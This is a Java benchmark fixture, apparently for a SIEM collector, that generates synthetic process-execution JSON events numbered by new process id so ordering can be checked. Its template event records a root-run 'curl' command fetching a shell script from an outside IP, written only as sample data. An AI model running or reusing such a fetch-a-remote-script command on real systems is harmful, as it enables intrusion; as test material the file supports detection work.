package dev.camelsiem.bench;

import java.nio.charset.StandardCharsets;

/**
 * Filled process events (PM) whose new process id is their running number, so that a collector can
 * check the order.
 */
final class RuntimeEvents {
  private static final String BEFORE =
      "{\"time\":\"2026-02-18T10:07:28Z\",\"id\":\"PM-002\",\"mode\":\"Audited\",\"pid\":1846367,\"parentPid\":1845879,"
          + "\"process\":\"curl\",\"euid\":0,\"egid\":1000,\"command\":\"curl -fsSL --max-time=5 http://203.0.113.9/x=1.sh\","
          + "\"operation\":\"exec\",\"path\":\"/usr/bin/curl\",\"source\":\"app-6d9f-abcde\",\"sourceIp\":\"10.244.1.12\","
          + "\"cluster\":\"prod\",\"node\":\"worker-1\",\"namespace\":\"shop\",\"pod\":\"app-6d9f-abcde\","
          + "\"container\":\"app\",\"nodeIp\":\"192.0.2.11\",\"image\":\"registry.example/team/app:1.4.2\","
          + "\"imageDigest\":\"sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1\","
          + "\"containerId\":\"0ce05246346b6687cb754cf716c57f20f226e159397e8e5985e55b448cb92e3f\","
          + "\"agentGroup\":\"bench\",\"newPid\":";

  private RuntimeEvents() {}

  /** One event without line break. */
  static String event(long number) {
    return BEFORE + number + "}";
  }

  /** Lines of events numbered from {@code first}. */
  static byte[] lines(long first, int count) {
    StringBuilder text = new StringBuilder(count * (BEFORE.length() + 10));
    for (long number = first; number < first + count; number++) {
      text.append(BEFORE).append(number).append("}\n");
    }
    return text.toString().getBytes(StandardCharsets.UTF_8);
  }
}
